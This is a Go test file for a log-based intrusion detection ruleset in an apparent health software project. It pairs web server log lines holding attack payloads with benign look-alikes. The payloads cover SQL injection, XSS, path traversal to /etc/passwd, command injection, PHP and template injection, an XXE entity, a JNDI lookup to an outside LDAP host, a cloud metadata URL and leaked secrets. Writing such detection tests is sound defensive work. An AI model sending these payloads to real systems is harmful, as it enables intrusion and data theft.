package rules_test

import (
	"fmt"

	"github.com/tutela-health/tutela/detect/event"
)

// The table of events beside the rules of logs.
func logCases() []scenario {
	get := func(format string) func(i int) *event.Event {
		return func(i int) *event.Event {
			return log(fmt.Sprintf(`192.0.2.7 - - [22/Nov/2026:09:30:00 +0000] "GET `+format+` HTTP/1.1" 200 512`, i))
		}
	}
	return append(attackCases(), []scenario{
		{"Somebody asks for one record number after the other", many(20, get("/api/patients/%d")), append(many(19, get("/api/patients/%d")), append(
			many(50, get("/list?page=%d")), many(50, func(i int) *event.Event { return get("/api/patients/%d")(i * i * 7) })...)...)},
	}...)
}

// attackCases are attempts as a web server logs them, and what looks like them.
func attackCases() []scenario {
	get := func(queries ...string) []*event.Event {
		var list []*event.Event
		for _, q := range queries {
			list = append(list, log(`192.0.2.7 - - [22/Nov/2026:09:30:00 +0000] "GET `+q+` HTTP/1.1" 200 512 "-" "Mozilla/5.0 (X11; Linux x86_64)"`))
		}
		return list
	}
	return []scenario{
		{"SQL injection attempt", get("/p?id=sleep(5)", "/p?id=1+and+sleep(5)+and+1", "/p?id=sleep(5)--", "/p?x=insert+into+a+(b)+values+(1)"), get("/p?q=sleep+(5)+hours", "/p?q=insert+into+calendar")},
		{"SQL injection attempt", get("/p?id=1%27%20OR%20%271%27=%271"), append(get("/Patient?family=O%27Brien&given=Union", "/q?text=select+a+union+rate", "/p?order=by+name"),
			log("LOG:  statement: SELECT a FROM b WHERE c = 'd' OR e = 'f' UNION SELECT 1"), log("user 'anna' or group 'nurses' = none"))},
		{"Cross-site scripting attempt", get("/p?q=%253Cscript%253Ealert(1)%253C/script%253E"), append(get("/p?q=a+%3C+b", "/p?online=true&action=view"), log("rendered <div> in 3 ms"))},
		{"Path traversal attempt", get("/f?n=..%c0%af..%c0%afetc/passwd"), append(get("/fhir/r4/metadata", "/static/app..js?v=1.2"), log("usermod: changed /etc/passwd"), log("webpack: ../../src/app.js 3 KiB"))},
		{"Template injection attempt", get("/p?q=%7B%7B7*7%7D%7D"), get("/p?q=%7Bid%7D", "/p?price=7*7")},
		{"LDAP injection attempt", get("/p?user=*)(uid=*))(|(uid=*"), append(get("/p?name=Anna+(Meier)"), log("conn=1 op=2 SRCH base=\"dc=x\" filter=\"(&(objectClass=*)(uid=anna))\""))},
		{"Command injection attempt", get("/p?host=127.0.0.1%3Bcat%20/etc/hosts", "/p?x=$(id)"), append(get("/p?a=1&id=2&cat=dogs", "/p?q=cat+and+dog"), log("exe=\"/usr/sbin/sshd\" type=LOGIN; ok"))},
		{"Code injection attempt", get("/p?q=%3C?php%20phpinfo();%3F%3E", "/p?u=http://169.254.169.254/latest/meta-data"), get("/p?system=http://loinc.org", "/p?q=php+developer")},
		{"External entity attempt", one(log(`body <!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>`)), one(log(`body <!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN">`))},
		{"Lookup injection attempt", one(log("agent ${${lower:j}ndi:ldap://203.0.113.9/a}")), one(log("value ${name} was not set"))},
		{"Header injection attempt", get("/p?to=x%0d%0aSet-Cookie:%20a=b"), get("/p?note=a%0d%0ab")},
		{"Secret in a log", one(log("login password=[tutela:secret] for anna")), []*event.Event{log("login token=expired for anna")}},
		{"Secret in a log", one(log("connect to postgres://app:hunter2secret@db/clinic")), []*event.Event{log("password=[redacted] for anna"), log("the password: invalid"), log("https://host/path?token=***")}},
	}
}
